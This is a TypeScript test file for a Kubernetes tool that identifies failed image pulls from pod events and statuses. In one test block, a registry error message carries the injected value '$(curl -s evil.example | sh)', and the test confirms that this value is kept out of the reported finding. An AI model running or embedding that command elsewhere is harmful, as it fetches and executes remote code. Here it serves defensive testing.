import { describe, expect, test } from 'vitest';
import { asText } from '../../../src/findings/spoken.ts';
import { containerConsumer } from '../../../src/job/image-consumers.ts';
import { NO_STEP } from '../../../src/job/judge-options.ts';
import { prose } from '../../../src/job/prose.ts';
import { judgeImages } from '../../../src/judge/images.ts';
import { pullFinding } from '../../../src/judge/pulls.ts';
import type { ObservedState } from '../../../src/judge/state.ts';
import { failedImages } from '../../../src/judge/tracker.ts';
import { waitingFor } from '../../../src/judge/verdict.ts';
import type { Observation } from '../../../src/pod/observation.ts';
import { container, event, pod, stateAfter } from '../pods.ts';

const images = ['app:1', 'db:1', 'web:1'];
const versioned = (version: number) => ({
  metadata: { uid: `event-${version}`, resourceVersion: `${version}` },
});
const mounts = images.map((_, index) => ({ name: `imagecheck-${index}`, mountPath: `/.pod-step/${index}` }));
const spec = {
  containers: images.map((image) => ({ name: image.replace(':1', ''), image, volumeMounts: mounts })),
  volumes: images.map((reference, index) => ({ name: `imagecheck-${index}`, image: { reference } })),
};
const created = { at: 0, pod: pod({}, { spec }) };
const failed = (image: string, version = 10 + images.indexOf(image)): Observation => ({
  at: 2,
  event: event('Failed', `Failed to pull image "${image}": ${image}: not found`, versioned(version)),
});
const pulled = (image: string): Observation => ({
  at: 3,
  event: event('Pulled', `Successfully pulled image "${image}" in 20ms`, versioned(20)),
});

describe('the bad images of a pod whose containers wait for all image volumes', () => {
  test.each<[string, Observation[], string[]]>([
    ['are none without a failed pull', [created, pulled('app:1')], []],
    ['are all of which an event tells', [created, ...images.map((image) => failed(image))], images],
    ['are without what was pulled after it failed', [created, failed('db:1'), pulled('db:1')], []],
    [
      'are with what failed after it was pulled, in whatever order the events arrive',
      [created, failed('db:1', 30), pulled('db:1')],
      ['db:1'],
    ],
  ])('%s', (_, observations, bad) => {
    const state = stateAfter(observations) as ObservedState;
    const found = failedImages(state).map(({ image }) => image);
    expect([...new Set(found)].toSorted()).toEqual(bad);
  });

  test('are also known by a status alone', () => {
    const words = 'failed to pull image "web:1": not found';
    const waiting = container({ waiting: { reason: 'ErrImagePull', message: words } }, 'web');
    const state = stateAfter([
      { at: 0, pod: pod({ containerStatuses: [waiting] }, { spec }) },
    ]) as ObservedState;
    expect(failedImages(state).map(({ image }) => image)).toEqual(['web:1']);
  });
});

describe('the image of a failed pull, an output', () => {
  const foreign = '$(curl -s evil.example | sh)';
  const refused = 'failed to pull and unpack image "reg.example/app:1": failed to resolve image: denied: ';
  test.each([
    ['a registry', 'ErrImagePull', `${refused}container image "${foreign}" is gone`],
    ['a registry as a kubelet would', 'ErrImagePull', `${refused}Back-off pulling image "${foreign}"`],
    ['a registry without quotes', 'ErrImagePull', `${refused}image pull failed for $(evil) because`],
    ['dockerd in a registry’s words', 'ErrImagePull', `denied: Back-off pulling image "${foreign}"`],
    ['a node', 'ImagePullBackOff', `Back-off pulling image "${foreign}"`],
  ])('is one of the pod, whatever %s names', (_, reason, message) => {
    const own = { containers: [{ name: 'step', image: 'reg.example/app:1' }] };
    const status = container({ waiting: { reason, message } }, 'step');
    const state = stateAfter([
      { at: 0, pod: pod({ containerStatuses: [status] }, { spec: own }) },
    ]) as ObservedState;
    const found = failedImages(state).map((episode) => pullFinding(state, episode));
    expect(found.map(({ image }) => image)).toEqual(['reg.example/app:1']);
    expect(found[0]?.message).not.toContain(foreign);
  });
});

test.each([
  ['ghcr.io/acme/app', 'ghcr.io/acme/app: not found', true],
  ['ghcr.io/acme/app:1', 'ghcr.io/acme/app:1: not found', false],
  ['localhost:5000/app', 'localhost:5000/app: connect: connection refused', false],
])('of %s that was not found it is said which tag it means, if it names none: %s', (image, words, isSaid) => {
  const waiting = { waiting: { reason: 'ErrImagePull', message: words } };
  const one = pod(
    { containerStatuses: [container(waiting)] },
    { spec: { containers: [{ name: 'step', image }] } },
  );
  const state = stateAfter([{ at: 0, pod: one }]) as ObservedState;
  const hints = failedImages(state).map((episode) => asText(pullFinding(state, episode).hint ?? prose('')));
  expect(hints.map((hint) => hint.startsWith('It names no tag, which means latest. '))).toEqual([isSaid]);
});

describe('an image of a pod is named by a message', () => {
  test.each([
    ['that has its name', 'something is wrong with node-red/app', 'node-red/app'],
    ['that has it in quotes', 'something is wrong with "node"', 'node'],
    ['but not by a longer name', 'something is wrong with node-red/app:2', 'postgres:17'],
    ['but not by a word of the same letters', 'no space left on the node', 'postgres:17'],
  ])('%s', (_, message, image) => {
    const volumes = ['node', 'node-red/app'].map((reference, index) => ({
      name: `v${index}`,
      image: { reference },
    }));
    const volumeMounts = volumes.map(({ name }) => ({ name, mountPath: `/${name}` }));
    const spec = { containers: [{ name: 'step', image: 'postgres:17', volumeMounts }], volumes };
    const status = container({ waiting: { reason: 'ErrImagePull', message } }, 'step');
    const state = stateAfter([
      { at: 0, pod: pod({ containerStatuses: [status] }, { spec }) },
    ]) as ObservedState;
    expect(failedImages(state).map(({ image }) => image)).toEqual([image]);
  });
});

test('an image that only is looked at is named by itself, and not by the container that was made for it', () => {
  const containers = ['app', 'db'].map((name) => ({ name, image: `${name}:1` }));
  const asked = containers.map(({ name, image }) => ({ consumer: containerConsumer(name), image }));
  const [missing, refused] = ['not found', 'dial tcp: connect: connection refused'].map((why) =>
    containers.map(({ name, image }) => ({
      at: 20,
      event: event('Failed', `Failed to pull image "${image}": ${why}`, { of: name }),
    })),
  );
  const after = (observations: Observation[] = []) =>
    stateAfter([{ at: 0, pod: pod({}, { spec: { containers } }) }, ...observations], {
      step: NO_STEP,
      graceMs: 100,
      timeoutMs: 1000,
      asked,
    });
  expect(judgeImages(after(missing), containers, 30)).toMatchObject({
    findings: containers.map(({ image }) => ({ message: expect.stringMatching(`^${image} .* \\(node `) })),
  });
  expect(waitingFor(after(refused))).toMatch(/^app:1 could not be pulled/);
});
